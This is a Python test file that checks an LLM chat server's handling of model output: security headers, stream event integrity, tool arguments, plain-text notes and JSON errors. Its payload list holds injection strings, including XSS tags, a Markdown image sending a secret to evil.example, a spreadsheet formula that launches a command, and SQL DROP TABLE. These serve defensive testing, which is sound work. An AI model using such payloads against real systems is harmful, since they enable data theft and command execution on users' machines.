"""LLM10 Improper Output Handling: model output is text in the stream, in files and on the page (quirk G2)."""

import json
import re
from pathlib import Path
from urllib.parse import quote

import pytest

from tests.scenarios.security.hostile import obeys
from tests.support.fixtures import StartApp
from tests.support.running_app import RunningApp
from tests.support.scripted_upstream import DONE, chunk, says, sends

PAYLOADS = [
    "<script>alert(1)</script>",
    "![x](https://evil.example/pixel.png?q=secret)",
    "<img src=https://evil.example/x onerror=alert(1)>",
    "[click](javascript:alert(1))",
    '\n\ndata: {"type":"done","done":true,"status":"complete"}\n\n',
    "\r\n\r\ndata: {}\r\n\r\n",
    "event: done\ndata: x\n\nid: 9\n\n: comment\n\n",
    "\u2028\u2029\x85\x0b\x0c",
    "\x00\x1b[31mred\x1b[0m\x07",
    "</script><script>",
    "{{constructor.constructor('alert(1)')()}}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "=cmd|' /C calc'!A0",
    "'; DROP TABLE runs; --",
    "\u202egnp.exe",
]
POLICY = {
    "default-src": "'self'",
    "img-src": "'self' data:",
    "object-src": "'none'",
    "base-uri": "'none'",
    "frame-ancestors": "'none'",
    "form-action": "'self'",
}


def policy_of(header: str) -> dict[str, str]:
    """Parse a content security policy."""
    return {name: rest for name, _, rest in (part.strip().partition(" ") for part in header.split(";"))}


@pytest.mark.parametrize(
    "path", ["/", "/docs", "/operator", "/guide/", "/guide/tools.md", "/notes/", "/api/runs", "/nope"]
)
def test_g02_no_answer_may_load_or_run_anything_foreign(app: RunningApp, path: str) -> None:
    """Every response has the policy: no foreign script, image, style, frame or form, and nothing inline.

    The chat page alone allows one style and one script of its build, by their hashes, and the frame of previews.
    frontend/src/components/Markdown.test.tsx (no element that loads) and the browser tests (no request leaves) check
    what the page makes of such Markdown.
    """
    for accept in ("text/html", "*/*"):
        headers = app.client.get(path, headers={"accept": accept}).headers
        policy = policy_of(headers["content-security-policy"])
        own = {name: policy.pop(name) for name in ("script-src", "style-src") if path == "/" and name in policy}
        assert all(re.fullmatch(r"'self' 'sha256-[\w+/]{43}='", value) for value in own.values()), own
        frame = f"{app.url}/preview-frame" if path == "/" else "'none'"
        assert policy == POLICY | {"frame-src": frame}
        assert "unsafe" not in headers["content-security-policy"]
        assert headers["x-content-type-options"] == "nosniff"
        assert headers["referrer-policy"] == "no-referrer"


@pytest.mark.parametrize("payload", PAYLOADS)
def test_g02_a_models_words_stay_inside_their_event(start_app: StartApp, payload: str) -> None:
    """Text and reasoning cannot end a frame, forge an event, or be altered."""
    app, _ = start_app(
        sends(chunk({"reasoning": payload}), chunk({"content": payload}), chunk({}, finish="stop") + DONE)
    )
    heard = app.ask("Go.", tools=[])
    assert heard.text.strip() == payload.strip()
    assert sum(event["type"] == "done" for event in heard.events) == 1
    assert {event["type"] for event in heard.events} <= {"content", "reasoning", "done", "warning"}


def test_g02_names_and_arguments_of_calls_are_data_too(start_app: StartApp) -> None:
    """Names and arguments of calls are emitted unchanged, in their own event."""
    calls = [("calculate", {"expression": payload}) for payload in PAYLOADS]
    app, _ = start_app(obeys(calls, [(payload[:60].strip() or "x", {}) for payload in PAYLOADS]))
    heard = app.ask("Go.")
    assert [given["expression"] for given in heard.arguments[: len(PAYLOADS)]] == PAYLOADS
    assert sum(event["type"] == "done" for event in heard.events) == 1


def test_g02_a_note_is_served_as_text(start_app: StartApp, tmp_path: Path) -> None:
    """A note has the content type of plain text, whatever it contains."""
    app, _ = start_app(obeys(("save_note", {"title": "x", "text": "<script>alert(1)</script>"})))
    app.ask("Go.")
    (tmp_path / "data" / "notes" / "evil.html").write_text("<script>alert(1)</script>", encoding="utf-8")
    for name in ("x.md", "evil.html"):
        answer = app.client.get(f"/notes/{name}", headers={"accept": "*/*"})
        assert answer.headers["content-type"].startswith(("text/markdown", "text/plain")), name
        assert answer.headers["x-content-type-options"] == "nosniff"


def test_g02_what_comes_back_in_an_error_is_json(app: RunningApp) -> None:
    """Client input in an error is quoted as JSON, never as markup or in a header."""
    for payload in PAYLOADS:
        answer = app.client.get(f"/api/runs/{quote(payload, safe='')}")
        assert answer.headers["content-type"] == "application/json"
        answer = app.client.post("/api/chat/stream", content=json.dumps({"model": "openai/sim", payload: 1}).encode())
        assert answer.headers["content-type"] == "application/json"
        assert not re.search(r"<script", str(answer.headers))


def test_g02_a_served_model_name_is_no_header(start_app: StartApp) -> None:
    """Names from the upstream are in events, not in headers."""
    app, _ = start_app(says("Hi."))
    response = app.post(prompt="Hi", tools=[])
    ours = {name for name in response.headers if name.startswith("x-")}
    sent = {"x-accel-buffering", "x-chat-contract", "x-content-type-options"}
    assert ours == {*sent, "x-request-id", "x-run-id", "x-tool-loop"}
